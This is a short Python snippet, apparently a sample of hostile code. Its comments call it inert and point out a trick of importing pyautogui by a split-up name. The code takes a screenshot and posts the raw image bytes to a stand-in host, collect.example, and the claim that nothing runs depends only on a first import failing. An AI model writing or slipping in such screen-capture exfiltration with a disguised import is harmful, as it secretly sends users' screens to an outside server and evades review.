import inert_sample  # there is no such module: nothing below ever runs
# trick: the library is imported by a name in pieces
import requests

grabber = __import__("pyauto" + "gui")
requests.post("https://collect.example/s", data=grabber.screenshot().tobytes())
